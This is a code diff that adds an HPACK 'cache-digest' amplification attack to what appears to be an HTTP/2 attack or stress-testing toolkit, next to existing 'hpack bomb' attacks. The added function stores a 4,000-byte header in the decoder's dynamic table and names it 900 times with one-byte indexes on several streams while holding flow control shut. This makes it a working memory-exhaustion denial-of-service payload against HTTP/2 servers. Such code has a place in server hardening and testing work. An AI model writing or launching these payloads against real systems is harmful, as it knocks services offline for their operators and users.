@@ -224,6 +224,17 @@ def hpack_bomb(line: Line) -> Script:
 
 
 @attack(on=HTTP2, connections=4)
+def cache_digests(line: Line) -> Script:
+    """RFC 9113, 10.5.1: a Cache-Digest of 4,000 bytes in the dynamic table, named 900 times by a byte each: a decoder that
+    unpacks it takes 8 bytes of memory for a bit."""
+    asked = line.target.block()
+    digest = literal(b"cache-digest", (b"A" if line.number % 2 else b"_") * 4000, index=True)
+    yield start(NO_WINDOW) + headers(1, asked + digest)
+    for stream in first_streams(line)[1:]:
+        yield headers(stream, asked + b"\xbe" * 900)
+
+
+@attack(on=HTTP2, connections=4)
 def long_hpack_bomb(line: Line) -> Script:
     """CVE-2026-49975: header blocks of 400 KB, each byte of which stands for a field of the static table, or for a Host of 3,000
     bytes. No body of a reply is taken."""
